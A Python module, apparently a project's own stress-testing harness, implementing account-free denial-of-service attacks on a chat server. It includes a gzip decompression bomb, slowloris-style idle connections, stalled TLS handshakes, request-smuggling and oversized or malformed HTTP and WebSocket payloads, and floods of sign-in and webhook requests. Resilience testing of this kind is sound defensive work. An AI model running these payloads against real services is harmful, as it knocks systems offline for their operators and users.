"""Implements the attacks that need no account, only access to the port. Each attack runs until it is
cancelled.

Constants limit the number of connections, and therefore the load.
"""

import asyncio
import base64
import json
import os
import zlib
from itertools import count, cycle, repeat

from svc.tools.bench.attack.load import Load

# The number of requests in progress at the same time.
AT_ONCE = 8
# The number of connections of each kind that wait without sending a request. Together they exceed the usual
# limit of 1,024 descriptors.
IDLE = 400
UNSIGNED = 1_200
_MASKED = 0x80
_GZIP_HEADER = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
_ZERO_MASK = b"\0\0\0\0"


async def charsets(load: Load) -> None:
    """Send JSON in encodings that are slow to decode or do not yield text."""
    punycode = b"a" * 30_000 + b"-" + b"b" * 33_000
    bodies = [("punycode", punycode), ("utf-7", b'{"a":"+2AA-"}'), ("unicode_escape", b'{"a":"\\ud800"}')]

    def join_request(charset: str, body: bytes) -> bytes:
        headers = {"Content-Type": f"application/json; charset={charset}"}
        return load.target.request("POST", "/api/auth/join", body=body, headers=headers)

    await load.flood(AT_ONCE, cycle([join_request(charset, body) for charset, body in bodies]))


async def inflation(load: Load) -> None:
    """Send bodies of 1 MB that inflate to 1 GB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    # The compressed block ends at a byte boundary and refers to nothing before it, so it can be repeated.
    block = packer.compress(bytes(16 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    bomb = _GZIP_HEADER + block * 64
    path = load.target.webhook or "/api/auth/join"
    await load.flood(
        2, repeat(load.target.request("POST", path, body=bomb, headers={"Content-Encoding": "gzip"}))
    )


async def idle_connections(load: Load) -> None:
    """Open connections that send nothing, one byte, a slow header or a slow body."""
    begun = b"GET /health HTTP/1.1\r\nHost: attacked\r\nX-Slow: "
    body = load.target.request("POST", "/api/auth/join", body=b"", headers={"Content-Length": "60000"})
    kept = load.target.request("GET", "/health")
    async with asyncio.TaskGroup() as group:
        for opening, trickle in ((b"", b""), (b"G", b""), (begun, b"a"), (body, b" "), (kept, b"")):
            group.create_task(load.hold(IDLE, repeat(opening), trickle=trickle))


async def handshakes(load: Load) -> None:
    """Open TLS connections and stall each handshake after the first byte or halfway through."""
    # The header of a record that announces a ClientHello of 512 bytes.
    half = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(32)
    async with asyncio.TaskGroup() as group:
        for opening in (b"\x16", half):
            group.create_task(load.hold(IDLE, repeat(opening), secure=False))


async def unsigned_sockets(load: Load) -> None:
    """Open live sockets that never sign in, and some that send wrong tokens."""
    wrong = json.dumps({"event": "authenticate", "id": 1, "data": {"access_token": "wrong"}}).encode()
    live = load.target.upgrade("/live")
    async with asyncio.TaskGroup() as group:
        group.create_task(load.hold(UNSIGNED, repeat(live)))
        group.create_task(load.hold(100, repeat(live + frame(wrong))))


async def malformed(load: Load) -> None:
    """Send requests that are invalid or expensive to parse, and WebSocket messages that are unmasked,
    endless, huge or deeply nested.
    """
    headers = {"Content-Type": "multipart/form-data" + ";" * 7_000}
    token = load.target.tokens[0] if load.target.tokens else ""
    semicolons = load.target.request("POST", "/api/me/avatar", token=token, body=b"", headers=headers)
    nested = b"[" * 800 + b",".join([b'""'] * 2_000) + b"]" * 800
    requests = cycle(
        [
            b"\0\1\2\3\r\n\r\n",
            b"GET / HTTP/9.9\r\n\r\n",
            b"GET /health HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 60_000 + b"\r\n\r\n",
            b"POST /api/auth/join HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n\r\n",
            b"POST /api/auth/join HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            b"GET " + b"/" * 8_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n",
            semicolons,
            b"GET http://xn--a/ HTTP/1.1\r\nHost: a\r\n\r\n",
            b"GET /%00%ff/../../etc HTTP/1.1\r\nHost: \xff\r\n\r\n",
        ]
    )
    frames = cycle(
        [
            b"\x81\x05hello",  # unmasked
            b"\x81\xff" + (1 << 62).to_bytes(8, "big") + _ZERO_MASK,
            b"\x01\x80" + _ZERO_MASK,  # the start of a message that never ends
            frame(b"x" * 60, opcode=0x89) * 1000,  # pings
            b"\xf1\x80" + _ZERO_MASK,  # reserved bits
            frame(b'{"event":"authenticate","id":1,"data":{"access_token":' + nested + b"}}"),
        ]
    )
    live = load.target.upgrade("/live")
    async with asyncio.TaskGroup() as group:
        group.create_task(load.flood(AT_ONCE, requests))
        group.create_task(load.hold(100, (live + frame for frame in frames)))


async def sign_ins(load: Load) -> None:
    """Sign in with invalid proofs, and request nonces without using them."""
    made_up = ".".join(base64.urlsafe_b64encode(os.urandom(30)).decode() for _ in range(3))
    join = json.dumps({"certificate": made_up, "assertion": made_up, "nickname": "x"}).encode()
    refresh = json.dumps({"refresh_token": made_up}).encode()
    turns = cycle(
        [
            load.target.request("POST", "/api/auth/challenge", body=b"{}"),
            load.target.request("POST", "/api/auth/join", body=join),
            load.target.request("POST", "/api/auth/refresh", body=refresh),
            load.target.request("GET", "/api/members", token=made_up),
        ]
    )
    await load.flood(AT_ONCE, turns)


async def webhook_flood(load: Load) -> None:
    """Post to a webhook, as anyone with its URL can."""
    body = json.dumps({"text": "attack " * 500}).encode()
    await load.flood(AT_ONCE, repeat(load.target.request("POST", load.target.webhook, body=body)))


async def webhook_guessing(load: Load) -> None:
    """Post to webhooks that do not exist."""

    def guess(_: int) -> bytes:
        path = f"/api/webhooks/{os.urandom(16).hex()}/{os.urandom(32).hex()}"
        return load.target.request("POST", path, body=b'{"text":"attack"}')

    await load.flood(AT_ONCE, map(guess, count()))


async def sfu(load: Load) -> None:
    """Open idle connections and live sockets to the SFU, directly and through the chat server."""
    async with asyncio.TaskGroup() as group:
        group.create_task(load.hold(300, repeat(load.target.upgrade("/sfu/client"))))
        if load.target.sfu:
            for opening in (b"", b"GET /hea", load.target.upgrade("/client"), load.target.upgrade("/server")):
                group.create_task(load.hold(IDLE, repeat(opening), address=load.target.sfu))


async def management(load: Load) -> None:
    """Open idle connections to the management listener and send wrong tokens."""
    address = load.target.management
    wrong = load.target.request("GET", "/management/settings", token="wrong")
    async with asyncio.TaskGroup() as group:
        group.create_task(load.hold(IDLE, repeat(b"G"), address=address))
        group.create_task(load.flood(AT_ONCE, repeat(wrong), address))


def frame(payload: bytes, opcode: int = 0x81) -> bytes:
    """Return a masked frame of less than 64 KB. The mask is zero, so the payload is unchanged."""
    if len(payload) < 126:
        return bytes((opcode, _MASKED | len(payload))) + _ZERO_MASK + payload
    return bytes((opcode, _MASKED | 126)) + len(payload).to_bytes(2, "big") + _ZERO_MASK + payload
